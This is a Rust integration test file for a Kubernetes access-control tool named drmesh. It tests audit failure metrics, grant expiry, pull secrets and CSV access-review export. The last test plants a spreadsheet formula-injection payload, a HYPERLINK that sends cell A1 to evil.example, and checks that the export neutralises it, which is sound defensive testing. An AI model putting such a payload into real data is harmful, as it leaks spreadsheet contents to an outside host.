//! What a platform team operates with, without a cluster: the metrics the chart's alerts
//! read, products pulling from an authenticated registry, and the access review as CSV.

use std::path::Path;
use std::process::Command;

use drmesh::api::AccessPolicyStatus;
use drmesh::telemetry::{AuditSink, GrantCounts, Metrics};

fn drmesh(args: &[&str]) -> std::process::Output {
    Command::new(env!("CARGO_BIN_EXE_drmesh"))
        .args(args)
        .current_dir(env!("CARGO_MANIFEST_DIR"))
        .output()
        .expect("drmesh runs")
}

fn metric(text: &str, name: &str) -> f64 {
    let line =
        text.lines().find(|l| l.starts_with(&format!("{name} "))).unwrap_or_else(|| panic!("no {name}:\n{text}"));
    line.rsplit(' ').next().and_then(|v| v.parse().ok()).expect("a number")
}

fn event() -> drmesh::audit::Event {
    serde_json::from_value(serde_json::json!({
        "time": "2026-06-01T00:00:00Z", "actor": "test", "decision": "Granted", "reason": "Granted", "message": "m",
        "product": {"namespace": "police", "name": "incident-feed"}, "classification": "Restricted",
        "subjects": ["Group:cnc-officers"], "purpose": "p", "expiresAt": "2027-01-01T00:00:00Z",
        "policy": {"namespace": "police", "name": "p", "uid": "u", "generation": 1},
    }))
    .expect("an audit event")
}

#[tokio::test]
async fn audit_records_that_cannot_be_written_are_counted_for_the_alert() {
    let metrics = Metrics::default();
    assert_eq!(metric(&metrics.encode(), "drmesh_audit_write_failures_total"), 0.0);
    // A full disk: every write fails.
    let full = std::fs::OpenOptions::new().write(true).open("/dev/full").expect("/dev/full");
    let sink = AuditSink::new(Box::new(full))
        .counting_failures_in(metrics.audit_write_failures.clone(), metrics.audit_failing.clone());
    assert!(sink.record(event()).await.is_err());
    assert!(sink.record(event()).await.is_err());
    assert_eq!(metric(&metrics.encode(), "drmesh_audit_write_failures_total"), 2.0);
    assert_eq!(metric(&metrics.encode(), "drmesh_audit_sink_failing"), 1.0);
    // A working sink counts nothing.
    let file = tempfile::NamedTempFile::new().expect("temp file");
    let ok = AuditSink::append_to(file.path())
        .expect("open")
        .counting_failures_in(metrics.audit_write_failures.clone(), metrics.audit_failing.clone());
    ok.record(event()).await.expect("written");
    assert_eq!(metric(&metrics.encode(), "drmesh_audit_write_failures_total"), 2.0);
    assert_eq!(metric(&metrics.encode(), "drmesh_audit_sink_failing"), 0.0, "back to working");
    assert_eq!(std::fs::read_to_string(file.path()).expect("read").lines().count(), 1);
}

#[test]
fn the_earliest_expiry_of_grants_in_force_is_what_the_expiry_alert_reads() {
    let status = |granted: bool, expires: Option<&str>| -> AccessPolicyStatus {
        serde_json::from_value(serde_json::json!({
            "conditions": [{"type": "Granted", "status": if granted {"True"} else {"False"},
                            "reason": if granted {"Granted"} else {"Expired"}, "message": "",
                            "lastTransitionTime": "2026-01-01T00:00:00Z"}],
            "expiresAt": expires,
        }))
        .expect("a status")
    };
    let mut counts = GrantCounts::default();
    counts.count(Some(&status(true, Some("2027-03-01T00:00:00Z"))));
    counts.count(Some(&status(true, Some("2027-02-01T00:00:00Z"))));
    counts.count(Some(&status(true, None)));
    // An expired grant grants nothing: it does not count as expiring.
    counts.count(Some(&status(false, Some("2026-01-01T00:00:00Z"))));
    assert_eq!(counts.active, 3);
    assert_eq!(counts.next_expiry, Some(1_801_440_000), "2027-02-01T00:00:00Z");
    let none = {
        let mut c = GrantCounts::default();
        c.count(Some(&status(true, None)));
        c
    };
    assert_eq!(none.next_expiry, None);
    let metrics = Metrics::default();
    assert_eq!(metric(&metrics.encode(), "drmesh_grants_next_expiry_timestamp_seconds"), 0.0);
}

#[test]
fn a_product_pulls_its_image_with_the_pull_secrets_it_names() {
    let dir = tempfile::tempdir().expect("temp dir");
    let product = |pull: &str| {
        format!(
            "apiVersion: v1\nkind: Namespace\nmetadata: {{name: police, labels: {{drmesh.io/clearance: Internal}}}}\n---\n\
             apiVersion: drmesh.io/v1alpha1\nkind: DataProduct\nmetadata: {{name: feed, namespace: police}}\n\
             spec:\n  description: d\n  classification: Internal\n  runtime:\n    image: registry.example/feed:1\n{pull}  \
             outputPorts: [{{name: http, port: 8080, protocol: HTTP}}]\n"
        )
    };
    let deployment = |yaml: &str| -> serde_json::Value {
        let file = dir.path().join("mesh.yaml");
        std::fs::write(&file, yaml).expect("write");
        let out = drmesh(&["render", "-f", file.to_str().expect("utf-8"), "--output", "json"]);
        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
        let children: serde_json::Value = serde_json::from_slice(&out.stdout).expect("json");
        let list = children.as_array().cloned().or_else(|| children["items"].as_array().cloned()).expect("a list");
        list.into_iter().find(|c| c["kind"] == "Deployment").expect("a Deployment")
    };
    let with = deployment(&product("    imagePullSecrets: [{name: registry-creds}]\n"));
    let pod = &with["spec"]["template"]["spec"];
    assert_eq!(pod["imagePullSecrets"], serde_json::json!([{"name": "registry-creds"}]), "{pod}");
    // Never mounted: the product reads no more Secrets than before.
    assert!(!pod["volumes"].to_string().contains("registry-creds"), "{pod}");
    let without = deployment(&product(""));
    assert!(without["spec"]["template"]["spec"].get("imagePullSecrets").is_none());

    // The CRD schema bounds it like the other lists of the runtime.
    let file = dir.path().join("bad.yaml");
    std::fs::write(&file, product("    imagePullSecrets: [{name: Not_A_Name}]\n")).expect("write");
    let out = drmesh(&["validate", "-f", file.to_str().expect("utf-8")]);
    assert_eq!(out.status.code(), Some(1), "{}", String::from_utf8_lossy(&out.stdout));
    assert!(
        String::from_utf8_lossy(&out.stdout).contains("imagePullSecrets"),
        "{}",
        String::from_utf8_lossy(&out.stdout)
    );
}

#[test]
fn the_access_review_csv_opens_in_a_spreadsheet_without_running_formulas() {
    let dir = tempfile::tempdir().expect("temp dir");
    let samples = Path::new(env!("CARGO_MANIFEST_DIR")).join("config/samples");
    for entry in std::fs::read_dir(&samples).expect("samples").flatten() {
        std::fs::copy(entry.path(), dir.path().join(entry.file_name())).expect("copy");
    }
    // A purpose is free text written by whoever may create an AccessPolicy.
    let police = dir.path().join("police.yaml");
    let text = std::fs::read_to_string(&police).expect("police");
    let line = text.lines().find(|l| l.trim_start().starts_with("purpose:")).expect("a purpose").to_string();
    let indent = &line[..line.len() - line.trim_start().len()];
    let planted = format!("{indent}purpose: \"=HYPERLINK(\\\"https://evil.example/?\\\"&A1,\\\"click\\\")\"");
    std::fs::write(&police, text.replacen(&line, &planted, 1)).expect("write");
    let out = drmesh(&[
        "access-review",
        "-f",
        dir.path().to_str().expect("utf-8"),
        "--output",
        "csv",
        "--now",
        "2026-06-01T00:00:00Z",
    ]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let csv = String::from_utf8_lossy(&out.stdout);
    assert!(csv.contains("\"'=HYPERLINK("), "the planted purpose is neutralised:\n{csv}");
    for row in csv.lines() {
        for cell in row.split(',') {
            assert!(!cell.starts_with(['=', '+', '-', '@']), "a formula cell {cell:?} in {row}");
        }
    }
}
